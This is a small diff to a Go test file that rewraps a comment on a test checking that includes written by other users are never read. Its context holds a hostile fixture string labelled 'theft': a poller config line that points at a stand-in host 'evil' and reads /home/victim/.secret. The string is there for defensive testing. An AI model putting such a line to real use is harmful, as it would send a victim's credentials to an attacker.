@@ -254,8 +254,8 @@ func TestIncludeMistakes(t *testing.T) {
 	}
 }
 
-// TestIncludesOfOthers: what another user could have written is never read, be it without a secret: it would say where
-// the secrets go.
+// TestIncludesOfOthers: what another user could have written is never read, be it without a secret: it would
+// say where the secrets go.
 func TestIncludesOfOthers(t *testing.T) {
 	t.Parallel()
 	const theft = "poll evil proto imap user a passwordfile /home/victim/.secret\n"
